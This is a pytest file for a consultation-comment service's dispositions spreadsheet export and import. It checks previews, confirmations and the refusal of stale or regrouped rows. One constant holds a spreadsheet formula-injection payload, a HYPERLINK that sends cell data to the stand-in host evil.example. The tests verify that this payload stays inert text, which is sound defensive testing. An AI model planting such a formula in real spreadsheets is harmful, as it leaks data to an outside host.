"""The dispositions sheet round trip: export, edit with openpyxl, import, preview, confirm; and its refusals."""

from __future__ import annotations

import io

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from commentsvc.core.audit import AuditEntry
from commentsvc.responses.models import Comment
from commentsvc.synthesis.dispositions_xlsx import COLUMNS, DECISION, EXPLANATION, ID, SHEET_TITLE
from commentsvc.synthesis.models import Decision
from tests.web.synthesis_helpers import SIMILAR_A, SIMILAR_B, build_scene, disposition_of

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def scene(factory, client, login):
    scene = build_scene(factory)
    login(scene.drafter)
    assert client.get(f"/consultations/{scene.consultation.id}/dispositions").status_code == 200
    return scene


def _export(client, scene):
    response = client.get(f"/consultations/{scene.consultation.id}/dispositions.xlsx")
    assert response.status_code == 200
    assert "attachment;" in response.headers["Content-Disposition"]
    return load_workbook(io.BytesIO(response.data))


def _row_of(sheet, disposition_id: int) -> int:
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row=row, column=ID + 1).value == disposition_id:
            return row
    raise AssertionError(f"no row for disposition {disposition_id}")


def _set(sheet, disposition_id: int, decision: str, explanation: str) -> None:
    row = _row_of(sheet, disposition_id)
    sheet.cell(row=row, column=DECISION + 1).value = decision
    sheet.cell(row=row, column=EXPLANATION + 1).value = explanation


def _upload(client, scene, workbook):
    output = io.BytesIO()
    workbook.save(output)
    return client.post(
        f"/consultations/{scene.consultation.id}/dispositions/import",
        data={"file": (io.BytesIO(output.getvalue()), "xu-ly.xlsx")},
        content_type="multipart/form-data",
    )


def _confirm(client, scene, preview_html: str):
    """Post the preview's confirm form back exactly as the browser would."""
    from lxml import html

    form = html.fromstring(preview_html).xpath("//form[contains(@action, '/import/confirm')]")[0]
    fields = [(element.name, element.value or "") for element in form.xpath(".//input[@name]")]
    data = {}
    for name, value in fields:
        data.setdefault(name, []).append(value)
    return client.post(form.action, data=data)


def test_export_has_marked_ids_a_hidden_column_and_a_decision_list(client, scene, db):
    sheet = _export(client, scene)[SHEET_TITLE]
    assert [cell.value for cell in sheet[1]] == [title for title, _ in COLUMNS]
    assert "không sửa" in sheet.cell(row=1, column=ID + 1).value
    assert sheet.column_dimensions["D"].hidden
    assert sheet.max_row == 6  # five groups
    validation = sheet.data_validations.dataValidation[0]
    assert "Tiếp thu một phần" in validation.formula1 and "Giải trình" in validation.formula1
    texts = [cell.value for cell in sheet[f"H2:H{sheet.max_row}"][0:5] for cell in cell]
    assert any(SIMILAR_A in text and SIMILAR_B in text for text in texts)  # the group, both agencies


def test_round_trip_previews_then_applies_on_confirm(client, scene, db):
    workbook = _export(client, scene)
    group = disposition_of(db, SIMILAR_A)
    general = disposition_of(db, "Rà soát tổng thể.")
    _set(workbook[SHEET_TITLE], group.id, "Tiếp thu", "Đã bổ sung khái niệm tại Điều 2.")
    _set(workbook[SHEET_TITLE], general.id, "Giải trình", FORMULA)
    preview = _upload(client, scene, workbook)
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert "2 nhóm sẽ được cập nhật" in page and "3 dòng không thay đổi" in page
    assert "Đã bổ sung khái niệm tại Điều 2." in page
    db.session.refresh(group)
    assert group.decision is None  # nothing written by the preview
    response = _confirm(client, scene, page)
    assert response.status_code == 302
    db.session.refresh(group)
    db.session.refresh(general)
    assert group.decision is Decision.ACCEPTED and group.explanation == "Đã bổ sung khái niệm tại Điều 2."
    assert general.decision is Decision.EXPLAINED and general.explanation == FORMULA
    entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "disposition.decide")).all()
    assert {entry.details_dict["source"] for entry in entries} == {"xlsx"}
    # The formula came back as text: exported again, it is a string cell, never a formula.
    again = _export(client, scene)[SHEET_TITLE]
    cell = again.cell(row=_row_of(again, general.id), column=EXPLANATION + 1)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
    page = client.get(f"/consultations/{scene.consultation.id}/synthesis").get_data(as_text=True)
    assert "=HYPERLINK(&#34;http://evil.example" in page


def test_a_regrouped_row_is_refused_with_a_message(client, scene, db):
    workbook = _export(client, scene)
    group = disposition_of(db, SIMILAR_A)
    group_id = group.id
    general_id = disposition_of(db, "Rà soát tổng thể.").id
    bca = db.session.scalar(sa.select(Comment).where(Comment.text == SIMILAR_B))
    base = f"/consultations/{scene.consultation.id}/dispositions"
    assert client.post(f"{base}/{group_id}/split", data={"comment_id": bca.id}).status_code == 302
    _set(workbook[SHEET_TITLE], group_id, "Tiếp thu", "Theo bảng tính.")
    _set(workbook[SHEET_TITLE], general_id, "Ghi nhận", "Rà soát.")
    page = _upload(client, scene, workbook).get_data(as_text=True)
    assert "1 nhóm sẽ được cập nhật" in page and "1 dòng bị từ chối" in page
    assert f"Nhóm ý kiến mã {group_id} đã thay đổi thành phần" in page
    assert _confirm(client, scene, page).status_code == 302
    assert disposition_of(db, SIMILAR_A).decision is None
    assert disposition_of(db, "Rà soát tổng thể.").decision is Decision.NOTED


def test_a_deleted_group_is_refused(client, scene, db):
    workbook = _export(client, scene)
    hni = disposition_of(db, "Đề nghị bổ sung quy định về bí mật kinh doanh.").id
    agg = disposition_of(db, "Ý kiến gửi muộn của An Giang.").id
    merge = f"/consultations/{scene.consultation.id}/dispositions/{hni}/merge"
    assert client.post(merge, data={"other_id": agg}).status_code == 302
    _set(workbook[SHEET_TITLE], agg, "Tiếp thu", "x")
    page = _upload(client, scene, workbook).get_data(as_text=True)
    assert f"Nhóm ý kiến mã {agg} không còn tồn tại" in page
    assert "0 nhóm sẽ được cập nhật" in page


def test_a_row_changed_in_the_database_since_export_is_refused_showing_both(client, scene, db):
    workbook = _export(client, scene)
    group = disposition_of(db, SIMILAR_A)
    group_id = group.id
    prefix = f"d{group_id}"
    client.post(
        f"/consultations/{scene.consultation.id}/dispositions/{group_id}",
        data={f"{prefix}-decision": "explained", f"{prefix}-explanation": "Ý kiến trên web.", f"{prefix}-version": 1},
    )
    _set(workbook[SHEET_TITLE], group_id, "Tiếp thu", "Ý kiến trong tệp.")
    page = _upload(client, scene, workbook).get_data(as_text=True)
    assert "đã được cập nhật trên hệ thống sau khi xuất tệp" in page
    assert "Ý kiến trên web." in page and "Ý kiến trong tệp." in page
    assert "0 nhóm sẽ được cập nhật" in page
    db.session.expire_all()
    assert disposition_of(db, SIMILAR_A).explanation == "Ý kiến trên web."


def test_untouched_rows_never_overwrite_newer_answers(client, scene, db):
    workbook = _export(client, scene)
    group_id = disposition_of(db, SIMILAR_A).id
    prefix = f"d{group_id}"
    client.post(
        f"/consultations/{scene.consultation.id}/dispositions/{group_id}",
        data={f"{prefix}-decision": "accepted", f"{prefix}-explanation": "Trên web.", f"{prefix}-version": 1},
    )
    page = _upload(client, scene, workbook).get_data(as_text=True)
    assert "0 nhóm sẽ được cập nhật" in page and "5 dòng không thay đổi" in page


def test_a_change_made_between_preview_and_confirm_refuses_the_whole_import(client, scene, db):
    workbook = _export(client, scene)
    group_id = disposition_of(db, SIMILAR_A).id
    general_id = disposition_of(db, "Rà soát tổng thể.").id
    _set(workbook[SHEET_TITLE], group_id, "Tiếp thu", "Từ tệp.")
    _set(workbook[SHEET_TITLE], general_id, "Ghi nhận", "Từ tệp.")
    page = _upload(client, scene, workbook).get_data(as_text=True)
    prefix = f"d{group_id}"
    client.post(
        f"/consultations/{scene.consultation.id}/dispositions/{group_id}",
        data={f"{prefix}-decision": "explained", f"{prefix}-explanation": "Trên web.", f"{prefix}-version": 1},
    )
    assert _confirm(client, scene, page).status_code == 409
    db.session.expire_all()
    assert disposition_of(db, SIMILAR_A).explanation == "Trên web."
    assert disposition_of(db, "Rà soát tổng thể.").decision is None


def test_unknown_decision_label_and_bad_files_are_refused(client, scene, db):
    workbook = _export(client, scene)
    group_id = disposition_of(db, SIMILAR_A).id
    _set(workbook[SHEET_TITLE], group_id, "Đồng ý", "x")
    page = _upload(client, scene, workbook).get_data(as_text=True)
    assert "Kết quả xử lý “Đồng ý” không hợp lệ" in page
    url = f"/consultations/{scene.consultation.id}/dispositions/import"
    for content in (b"not a spreadsheet", b"PK\x03\x04broken"):
        response = client.post(url, data={"file": (io.BytesIO(content), "x.xlsx")}, content_type="multipart/form-data")
        assert response.status_code == 400
